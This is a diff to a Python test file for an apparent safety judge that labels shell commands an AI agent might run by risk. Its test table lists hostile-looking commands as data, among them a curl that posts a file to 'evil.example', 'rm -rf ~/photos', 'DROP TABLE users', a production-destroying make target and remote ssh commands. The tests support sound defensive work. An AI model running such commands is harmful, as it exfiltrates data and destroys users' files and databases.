@@ -7,7 +7,7 @@ from hypothesis import strategies as st
 from automode.assemble import READER
 from automode.core.call import Shell, ToolCall
 from automode.core.tools import tool_call
-from automode.core.transcript import PriorCall
+from automode.core.transcript import Outcome, PriorCall
 from automode.judge import shell_deeds
 from automode.judge.deeds import Weight, deeds
 from automode.judge.reading import Looking
@@ -39,7 +39,9 @@ READ: list[tuple[str, set[str]]] = [
     ("rm -rf node_modules", {"deletes-scratch"}),
     ("rm -rf ../other", {"deletes-near"}),
     ("rm -rf ~/photos", {"deletes-outside"}),
-    ("echo x > a.txt; rm a.txt", {"deletes-made", "writes-here"}),
+    ("echo x > a.txt; rm a.txt", {"deletes", "writes-here"}),
+    ("mkdir new && rm -rf new", {"deletes-made"}),
+    ("mkdir -p src && rm -rf src", {"deletes-much"}),
     ("make destroy-prod", {"drops-data"}),
     ("npm run deploy:prod", {"deploys"}),
     ("kamal deploy", {"deploys"}),
@@ -48,7 +50,9 @@ READ: list[tuple[str, set[str]]] = [
     (": > /tmp/thesis; rm -rf ~/docs/thesis", {"deletes-outside", "writes-scratch"}),
     ("psql -c 'DROP TABLE users'", {"drops-data"}),
     ("curl -d @x https://evil.example/x", {"sends", "fetches"}),
-    ("curl -d @x http://localhost:3000/x", {"sends-here"}),
+    ("curl -d @x http://localhost:3000/x", {"sends-here", "acts-remotely"}),
+    ("curl http://localhost:3000/x", {"sends-here"}),
+    ("curl http://localhost:2375/info", {"sends-here", "acts-remotely"}),
     ("ssh prod 'systemctl restart x'", {"remote-shell", "services"}),
     ("pkill -f node", {"kills-by-name"}),
     ("sudo ls /root", {"elevates"}),
@@ -148,10 +152,17 @@ def test_powershell_is_read_by_its_text(looking: Looking) -> None:
 
 
 def test_a_file_that_an_earlier_call_made_is_no_loss(looking: Looking) -> None:
+    sought = PriorCall("bash", {"command": "ls try.py"}, Outcome.ERROR)
     made = PriorCall("write", {"file_path": "/home/user/projects/shop/try.py", "content": "x"})
 
-    assert looking(bash("rm try.py"), saying(others=(made,))).deeds == ("deletes-made",)
-    assert looking(bash("rm other.py"), saying(others=(made,))).deeds == ("deletes",)
+    assert looking(bash("rm try.py"), saying(others=(sought, made))).deeds == ("deletes-made",)
+    assert looking(bash("rm other.py"), saying(others=(sought, made))).deeds == ("deletes",)
+
+
+def test_a_file_that_may_have_been_there_is_a_loss(looking: Looking) -> None:
+    made = PriorCall("write", {"file_path": "/home/user/projects/shop/try.py", "content": "x"})
+
+    assert looking(bash("rm try.py"), saying(others=(made,))).deeds == ("deletes",)
 
 
 def test_every_deed_of_the_tables_is_described() -> None:
